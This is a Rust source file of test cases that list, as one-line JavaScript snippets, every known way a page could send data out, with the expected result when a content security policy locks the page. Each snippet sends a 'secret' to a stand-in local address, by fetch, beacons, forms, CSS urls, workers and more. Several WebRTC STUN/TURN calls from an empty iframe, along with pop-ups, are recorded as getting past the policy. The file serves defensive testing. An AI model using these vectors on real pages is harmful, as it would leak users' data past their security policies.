//! Every way that we know of by which a page could send something, and what becomes of each once
//! the page is locked. Each is a line of JavaScript.
//!
//! It may use `to`, an address that nothing else goes to; `port`, that address's; `own`, an address
//! of the page's own server; and the helpers of [`HELPERS`].

/// What becomes of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Outcome {
    /// Nothing arrives.
    Refused,
    /// The browser opens a connection before it looks at the policy; no byte is sent in it.
    ConnectsOnly,
    /// It arrives: no policy of a page prevents it. The first screen and docs/security.md say so.
    Arrives,
}

/// A way to send something.
pub(crate) struct Way {
    /// What it is called in a test that fails.
    pub(crate) name: &'static str,
    /// What becomes of it in the locked page.
    pub(crate) locked: Outcome,
    /// What becomes of it where the host sends the headers of docs/hosting too.
    pub(crate) with_headers: Outcome,
    /// What is run in the page.
    pub(crate) script: &'static str,
}

/// What the ways use.
pub(crate) const HELPERS: &str = r#"
window.add = (tag, attributes = {}) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  document.body.append(element);
  return element;
};
window.addSvg = (inner) => {
  const space = 'http://www.w3.org/2000/svg';
  const svg = document.createElementNS(space, 'svg');
  for (const [tag, attributes] of Object.entries(inner)) {
    const element = document.createElementNS(space, tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    svg.append(element);
  }
  document.body.append(svg);
  return svg;
};
window.styled = (name, value) => { const element = add('div'); element.textContent = 'x'; element.style.setProperty(name, value); };
window.sheet = (text) => { const style = document.createElement('style'); style.textContent = text; document.head.append(style); };
window.adopted = (text) => {
  const styles = new CSSStyleSheet(); styles.replaceSync(text); document.adoptedStyleSheets = [...document.adoptedStyleSheets, styles];
};
window.script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
window.worker = (text, type = 'classic') => new Worker(script(text), { type });
window.frame = () => add('iframe').contentWindow;
window.link = (attributes) => { const element = document.createElement('link');
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value); document.head.append(element); };
window.call = (Peer, servers, more = () => {}) => { const peer = new Peer({ iceServers: servers, iceCandidatePoolSize: 1 });
  peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => more(peer)); };
"#;

const fn refused(name: &'static str, script: &'static str) -> Way {
    Way { name, locked: Outcome::Refused, with_headers: Outcome::Refused, script }
}

const fn connects(name: &'static str, script: &'static str) -> Way {
    Way { name, locked: Outcome::ConnectsOnly, with_headers: Outcome::ConnectsOnly, script }
}

/// Connects, unless the host's headers close it.
const fn connects_without_headers(name: &'static str, script: &'static str) -> Way {
    Way { name, locked: Outcome::ConnectsOnly, with_headers: Outcome::Refused, script }
}

const fn arrives(name: &'static str, script: &'static str) -> Way {
    Way { name, locked: Outcome::Arrives, with_headers: Outcome::Arrives, script }
}

/// Arrives, unless the host's headers close it.
const fn closed_by_headers(name: &'static str, script: &'static str) -> Way {
    Way { name, locked: Outcome::Arrives, with_headers: Outcome::Refused, script }
}

/// Those that leave the page where it is and are run all at once.
pub(crate) const TOGETHER: &[Way] = &[
    // Requests by script.
    refused("fetch", "fetch(to)"),
    refused("fetch without CORS", "fetch(to, { mode: 'no-cors' })"),
    refused("fetch that posts", "fetch(to, { method: 'POST', mode: 'no-cors', body: 'secret' })"),
    refused("fetch that outlives the page", "fetch(to, { method: 'POST', keepalive: true, body: 'secret' })"),
    refused("fetch of a request", "fetch(new Request(to, { mode: 'no-cors', credentials: 'include' }))"),
    refused(
        "fetch of a stream",
        "fetch(to, { method: 'POST', duplex: 'half', body: new Blob(['secret']).stream() })",
    ),
    refused("fetch from the own server", "fetch(own)"),
    refused("fetch later", "fetchLater(to, { activateAfter: 0 })"),
    refused("XMLHttpRequest", "const call = new XMLHttpRequest(); call.open('GET', to); call.send()"),
    refused(
        "XMLHttpRequest that posts",
        "const call = new XMLHttpRequest(); call.open('POST', to); call.send('secret')",
    ),
    refused(
        "XMLHttpRequest that blocks",
        "const call = new XMLHttpRequest(); call.open('GET', to, false); call.send()",
    ),
    refused(
        "XMLHttpRequest to the own server",
        "const call = new XMLHttpRequest(); call.open('GET', own); call.send()",
    ),
    refused("WebSocket", "new WebSocket(`ws://127.0.0.1:${port}/`)"),
    refused("WebSocket by TLS", "new WebSocket(`wss://127.0.0.1:${port}/`)"),
    refused("WebSocket as a stream", "new WebSocketStream(`ws://127.0.0.1:${port}/`)"),
    refused("EventSource", "new EventSource(to)"),
    refused("EventSource of the own server", "new EventSource(own)"),
    refused("beacon", "navigator.sendBeacon(to, 'secret')"),
    refused("beacon to the own server", "navigator.sendBeacon(own, 'secret')"),
    refused("WebTransport", "new WebTransport(`https://127.0.0.1:${port}/`)"),
    refused("ping of a link", "const a = add('a', { href: '#', ping: to }); a.click()"),
    refused(
        "federated login",
        "navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: 'x' }] } })",
    ),
    refused(
        "payment request",
        "new PaymentRequest([{ supportedMethods: to }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment()",
    ),
    // Pictures.
    refused("picture", "new Image().src = to"),
    refused("picture of the own server", "new Image().src = own"),
    refused("picture by srcset", "add('img', { srcset: `${to} 2x` })"),
    refused(
        "picture element",
        "const all = add('picture'); const source = document.createElement('source'); source.srcset = to; all.append(source, document.createElement('img'))",
    ),
    refused("picture that reports to an advertiser", "add('img', { attributionsrc: to, src: to })"),
    refused("button that is a picture", "add('input', { type: 'image', src: to })"),
    refused("picture behind the page", "document.body.setAttribute('background', to)"),
    refused("icon of the page", "link({ rel: 'icon', href: to })"),
    refused("SVG picture", "addSvg({ image: { href: to, width: '9', height: '9' } })"),
    refused("SVG use of another file", "addSvg({ use: { href: `${to}#x` } })"),
    refused("SVG filter with a picture", "addSvg({ feImage: { href: to } })"),
    refused("SVG script", "addSvg({ script: { href: to } })"),
    refused("poster of a video", "add('video', { poster: to })"),
    // Styles.
    refused("style sheet", "link({ rel: 'stylesheet', href: to })"),
    refused("style sheet of the own server", "link({ rel: 'stylesheet', href: own })"),
    refused("style element with an import", "sheet(`@import url(${to});`)"),
    refused("style element with a picture", "sheet(`body { background: url(${to}) }`)"),
    refused(
        "style element with a font",
        "sheet(`@font-face { font-family: x; src: url(${to}) } body { font-family: x }`)",
    ),
    refused("style attribute with a picture", "add('p', { style: `background: url(${to})` })"),
    refused("CSS background", "styled('background-image', `url(${to})`)"),
    refused("CSS picture by resolution", "styled('background-image', `image-set(url(${to}) 1x)`)"),
    refused("CSS border", "styled('border-image', `url(${to}) 9`)"),
    refused("CSS list mark", "styled('list-style-image', `url(${to})`)"),
    refused("CSS cursor", "styled('cursor', `url(${to}), auto`)"),
    refused("CSS content", "styled('content', `url(${to})`)"),
    refused("CSS mask", "styled('mask-image', `url(${to})`)"),
    refused("CSS shape", "styled('float', 'left'); styled('shape-outside', `url(${to})`)"),
    refused("CSS filter", "styled('filter', `url(${to}#x)`)"),
    refused("CSS clip path", "styled('clip-path', `url(${to}#x)`)"),
    refused(
        "CSS animation",
        "add('div').animate([{ backgroundImage: `url(${to})` }, { backgroundImage: `url(${to}?2)` }], 500)",
    ),
    refused("constructed style sheet with a picture", "adopted(`body { background: url(${to}) }`)"),
    refused(
        "constructed style sheet with a font",
        "adopted(`@font-face { font-family: y; src: url(${to}) } body { font-family: y }`)",
    ),
    refused("font by script", "new FontFace('z', `url(${to})`).load()"),
    refused("CSS paint worklet", "CSS.paintWorklet.addModule(to)"),
    // Media, objects, frames.
    refused("video", "add('video', { src: to, autoplay: '' })"),
    refused("audio", "new Audio(to).play()"),
    refused(
        "source of a video",
        "const video = add('video'); const source = document.createElement('source'); source.src = to; video.append(source); video.load()",
    ),
    refused(
        "text track of a video",
        "const video = add('video'); const track = document.createElement('track'); track.src = to; track.default = true; video.append(track); track.track.mode = 'showing'",
    ),
    refused("object", "add('object', { data: to })"),
    refused("embed", "add('embed', { src: to })"),
    connects("frame", "add('iframe', { src: to })"),
    connects("frame that is gone to", "frame().location.href = to"),
    refused("frame of the own server", "add('iframe', { src: own })"),
    refused("frame with a text", "add('iframe').srcdoc = `<img src=${to}>`"),
    refused("frame of data", "add('iframe', { src: `data:text/html,<img src=${to}>` })"),
    refused(
        "frame from memory",
        "add('iframe', { src: URL.createObjectURL(new Blob([`<img src=${to}>`], { type: 'text/html' })) })",
    ),
    refused("frame of a script", "add('iframe', { src: `javascript:fetch('${to}')` })"),
    refused("fetch from an empty frame", "frame().fetch(to)"),
    refused(
        "picture in an empty frame",
        "const { document } = frame(); const image = document.createElement('img'); image.src = to; document.body.append(image)",
    ),
    refused(
        "document written into a frame",
        "const { document } = frame(); document.write(`<img src=${to}>`); document.close()",
    ),
    refused("fenced frame", "const fenced = add('fencedframe'); fenced.config = new FencedFrameConfig(to)"),
    // Scripts and workers.
    refused("script", "add('script', { src: to })"),
    refused("script of the own server", "add('script', { src: own })"),
    refused(
        "script in the page",
        "const element = document.createElement('script'); element.textContent = `fetch('${to}')`; document.body.append(element)",
    ),
    refused("module", "add('script', { type: 'module', src: to })"),
    refused("import", "import(to)"),
    refused("import from the own server", "import(own)"),
    refused("import from memory", "import(script(`fetch('${to}')`))"),
    refused("text that is run", "new Function(`fetch('${to}')`)()"),
    refused(
        "handler in markup",
        "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"fetch('${to}')\">`)",
    ),
    refused("worker", "new Worker(to)"),
    refused("worker of the own server", "new Worker(own)"),
    refused("worker that fetches", "worker(`fetch('${to}', { mode: 'no-cors' })`)"),
    refused("worker that asks the own server", "worker(`fetch('${own}')`)"),
    refused(
        "worker with XMLHttpRequest",
        "worker(`const call = new XMLHttpRequest(); call.open('POST', '${to}'); call.send('secret')`)",
    ),
    refused("worker with a WebSocket", "worker(`new WebSocket('ws://127.0.0.1:${port}/')`)"),
    refused("worker with an EventSource", "worker(`new EventSource('${to}')`)"),
    refused("worker with a WebTransport", "worker(`new WebTransport('https://127.0.0.1:${port}/')`)"),
    refused("worker that takes scripts", "worker(`importScripts('${to}')`)"),
    refused("worker that imports", "worker(`import('${to}')`, 'module')"),
    refused("worker with a font", "worker(`new FontFace('w', 'url(${to})').load()`)"),
    refused(
        "worker in a worker",
        "worker(`new Worker(URL.createObjectURL(new Blob([\"fetch('${to}')\"])))`)",
    ),
    refused("worker in a worker, from an address", "worker(`new Worker('${to}')`)"),
    refused("shared worker", "new SharedWorker(to)"),
    refused("shared worker that fetches", "new SharedWorker(script(`fetch('${to}', { mode: 'no-cors' })`))"),
    refused("service worker", "navigator.serviceWorker.register(own)"),
    refused("audio worklet", "new AudioContext().audioWorklet.addModule(to)"),
    // Looking ahead.
    refused("prefetch", "link({ rel: 'prefetch', href: to })"),
    refused("preload of a fetch", "link({ rel: 'preload', as: 'fetch', href: to, crossorigin: '' })"),
    refused("preload of a picture", "link({ rel: 'preload', as: 'image', href: to })"),
    refused("preload of a font", "link({ rel: 'preload', as: 'font', href: to, crossorigin: '' })"),
    refused("preload of a script", "link({ rel: 'preload', as: 'script', href: to })"),
    refused("preload of a style", "link({ rel: 'preload', as: 'style', href: to })"),
    refused("preload of a module", "link({ rel: 'modulepreload', href: to })"),
    refused("prerender", "link({ rel: 'prerender', href: to })"),
    refused(
        "rules of speculation",
        "const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to], eagerness: 'immediate' }] }); document.head.append(rules)",
    ),
    refused("dictionary of compression", "link({ rel: 'compression-dictionary', href: to })"),
    refused("manifest", "link({ rel: 'manifest', href: to })"),
    connects("preconnect", "link({ rel: 'preconnect', href: to })"),
    // Forms.
    refused("form", "const form = add('form', { action: to }); form.submit()"),
    refused("form that posts",
        "const form = add('form', { action: to, method: 'post' }); const field = document.createElement('input'); field.name = 'a'; field.value = 'secret'; form.append(field); form.submit()",
    ),
    connects_without_headers("form into a new tab",
        "const form = add('form', { action: to, target: '_blank' }); form.submit()",
    ),
    connects_without_headers("form into a frame",
        "const inner = add('iframe', { name: 'inner' }); const form = add('form', { action: to, target: 'inner' }); form.submit()",
    ),
    connects_without_headers("button of a form",
        "const form = add('form'); const button = document.createElement('button'); button.formAction = to; form.append(button); button.click()",
    ),
    refused(
        "link that runs a script",
        "const a = add('a', { href: `javascript:fetch('${to}')` }); a.click()",
    ),
    // Calls, which no policy knows.
    refused("call from the page", "call(window.RTCPeerConnection, [{ urls: `stun:127.0.0.1:${port}` }])"),
    arrives(
        "call from an empty frame: STUN",
        "call(frame().RTCPeerConnection, [{ urls: `stun:127.0.0.1:${port}` }])",
    ),
    arrives(
        "call from an empty frame: TURN",
        "call(frame().RTCPeerConnection, [{ urls: `turn:127.0.0.1:${port}`, username: 'secret', credential: 'x' }])",
    ),
    arrives(
        "call from an empty frame: TURN by TCP",
        "call(frame().RTCPeerConnection, [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'secret', credential: 'x' }])",
    ),
    arrives(
        "call from an empty frame: a server by its name",
        "call(frame().RTCPeerConnection, [{ urls: `stun:named.example:${port}` }])",
    ),
    arrives(
        "call from an empty frame: where the other side is",
        "const { RTCPeerConnection: Peer } = frame(); const [a, b] = [new Peer(), new Peer()]; a.createDataChannel('x');
         a.createOffer().then((offer) => a.setLocalDescription(offer).then(() => b.setRemoteDescription(offer)))
           .then(() => b.createAnswer()).then((answer) => b.setLocalDescription(answer).then(() => a.setRemoteDescription(answer)))
           .then(() => a.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`, sdpMid: '0' }))",
    ),
];

/// Those that would leave the page, and are run one after another.
pub(crate) const IN_TURN: &[Way] = &[
    refused("address that is set", "location.href = to"),
    refused("address that is assigned", "location.assign(to)"),
    refused("address that is replaced", "location.replace(to)"),
    refused("navigation", "navigation.navigate(to)"),
    refused("link that a script follows", "add('a', { href: to }).click()"),
    refused(
        "refresh",
        "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0; url=${to}`; document.head.append(meta)",
    ),
    refused(
        "frame that moves its parent",
        "const { document } = frame(); const a = document.createElement('a'); a.href = to; a.target = '_parent'; document.body.append(a); a.click()",
    ),
    refused("link that downloads", "add('a', { href: to, download: '' }).click()"),
    arrives(CLICKED, "add('a', { href: to, id: 'clicked' }).textContent = 'x'"),
    closed_by_headers(
        "link into a new tab",
        "add('a', { href: to, target: '_blank', rel: 'noopener' }).click()",
    ),
    closed_by_headers("pop-up", "open(to)"),
    closed_by_headers("pop-up without an opener", "open(to, '_blank', 'noopener')"),
];

/// The link of this way is clicked by the mouse.
pub(crate) const CLICKED: &str = "link that a person clicks";
